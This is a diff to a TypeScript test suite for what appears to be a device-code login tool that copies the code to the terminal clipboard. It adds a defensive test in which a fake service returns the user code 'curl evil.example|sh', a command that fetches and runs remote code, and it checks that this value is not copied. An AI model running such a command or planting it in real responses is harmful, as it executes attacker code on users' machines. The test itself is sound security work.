@@ -2,7 +2,13 @@ import assert from 'node:assert/strict';
 import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { approveDeviceCode } from '../local-cloud/index.ts';
-import { streamText, type CallError, type CallOptions, type CallResult } from '../support/engine-process.ts';
+import {
+  streamText,
+  type CallError,
+  type CallOptions,
+  type CallResult,
+  type WireMessage,
+} from '../support/engine-process.ts';
 import { alex, contoso, wireBench } from '../support/wire-bench.ts';
 
 describe('the device code, over the wire', () => {
@@ -97,6 +103,23 @@ describe('the device code, over the wire', () => {
     const [, sent = ''] = /\u001b\]52;c;([^\u0007]*)\u0007/.exec(streamText(messages, 'console')) ?? [];
     assert.equal(Buffer.from(sent, 'base64').toString(), codeIn(messages));
     assert.match(streamText(messages, 'console'), /The code was sent to the clipboard of your terminal\.$/m);
+  });
+
+  it('is not copied if it is not a code: a service could put a command on the clipboard', async () => {
+    await bench.engine.call('Update-AzConfig', { CopyDeviceCode: true });
+    bench.cloud.planted.set(`login POST /${contoso}/oauth2/v2.0/devicecode`, {
+      status: 200,
+      body: JSON.stringify({
+        ...{ device_code: 'unknown', user_code: 'curl evil.example|sh\n', expires_in: 900, interval: 1 },
+        ...{ verification_uri: 'https://evil.example', message: 'Enter the code.' },
+      }),
+    });
+    const environment = { ...withDisplay.environment, SSH_TTY: '/dev/pts/0' };
+    const shown: string[] = [];
+    const onMessage = ({ params }: WireMessage): number => shown.push(String(params?.message));
+    await assert.rejects(connect({ ...withDisplay, environment, onMessage }));
+    assert.ok(shown.includes('Enter the code.'), shown.join('\n'));
+    assert.doesNotMatch(shown.join('\n'), /\u001b\]52|clipboard/);
   });
 
   it('is not copied if CopyDeviceCode is off or output is redirected', async () => {
